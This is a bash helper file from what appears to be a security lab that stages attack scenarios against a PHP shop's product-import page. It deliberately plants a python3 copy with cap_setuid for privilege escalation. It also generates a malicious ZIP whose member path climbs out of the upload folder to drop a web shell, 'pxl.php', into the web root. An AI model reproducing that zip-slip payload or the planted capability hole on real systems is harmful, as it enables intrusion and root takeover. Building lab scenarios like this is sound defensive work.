# shellcheck shell=bash
# The PHP shop's product import (scenarios shop-import and benign-ops):
# functions sourced by their scenario scripts, root side, idempotent.
# The shop of setup (/var/www/html, www-data) plus admin/import.php from
# shopimp/www/ (a ZIP of photos + products.csv, unzip -o -: into
# catalog/incoming/<batch>/, convert for thumbnails; "office only" by a
# trusted X-Forwarded-For). setup --reset-only puts the web root back;
# shopimp_reset undoes what these scenarios change elsewhere:
#   shopimp_install        the import page over the freshly reset web root
#   shopimp_plant_cap      the admin's leftover: a copy of python3 with cap_setuid+ep
#   shopimp_zips DIR N     photo ZIPs (photos-w49-1..N.zip) + the attacker's (catalog-update.zip)
#   shopimp_reset          capability copy, motd script, temp files, alice's account back

SHOPIMP=$LAB_DIR/shopimp
SHOPIMP_PYCAP=/usr/local/bin/python3-backup

shopimp_install() {
  cp -r "$SHOPIMP/www/." "$WEBROOT/"
  install -d "$WEBROOT/catalog/incoming"
  chown -R www-data:www-data "$WEBROOT"
}

# an admin once copied python3 to run backups with setuid and forgot it
shopimp_plant_cap() {
  install -m 755 "$(readlink -f /usr/bin/python3)" "$SHOPIMP_PYCAP"
  setcap cap_setuid+ep "$SHOPIMP_PYCAP"
}

shopimp_zips() { # dir count: photo ZIPs for the import page, owned by labremote
  local d=$1 n=$2
  install -d -o labremote -g labremote "$d"
  $PY - "$d" "$n" "$SHOPIMP/attacker/pxl.php" <<'PYEOF'
import sys, zlib, struct, zipfile
d, n, shell = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "rb").read()
def png(rgb, w=160, h=120):
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    def chunk(t, b): return struct.pack(">I", len(b)) + t + b + struct.pack(">I", zlib.crc32(t + b) & 0xffffffff)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
items = ["mug-blue", "mug-red", "tee-green", "tee-black", "cap-grey", "bag-tote", "sock-pair", "pin-set"]
for i in range(1, n + 1):
    with zipfile.ZipFile("%s/photos-w49-%d.zip" % (d, i), "w", zipfile.ZIP_DEFLATED) as z:
        rows = ["sku,name,price,photo"]
        for k in range(2 + i % 3):
            it = items[(i + k) % len(items)]
            rows.append("%s-%d,%s,%d.90,photos/%s-%d.png" % (it.upper(), i, it.replace("-", " "), 9 + k, it, i))
            z.writestr("photos/%s-%d.png" % (it, i), png(((i * 40) % 256, (k * 70) % 256, 120)))
        z.writestr("products.csv", "\n".join(rows) + "\n")
# the attacker's archive: a believable photo + CSV, and a member whose name
# climbs out of catalog/incoming/<batch>/ into the web root's img/
with zipfile.ZipFile("%s/catalog-update.zip" % d, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("products.csv", "sku,name,price,photo\nTEE-NAVY-1,tee navy,14.90,photos/tee-navy-1.png\n")
    z.writestr("photos/tee-navy-1.png", png((20, 30, 90)))
    z.writestr("../../../img/pxl.php", shell)
PYEOF
  chown -R labremote:labremote "$d"
}

shopimp_reset() {
  rm -f "$SHOPIMP_PYCAP" /etc/update-motd.d/60-sysinfo /tmp/f /tmp/.c.tgz /tmp/.s
  # the attack locks alice's password and expires her account: as setup left it
  if getent passwd alice > /dev/null; then
    usermod -p '*' alice
    chage -E -1 alice
  fi
}
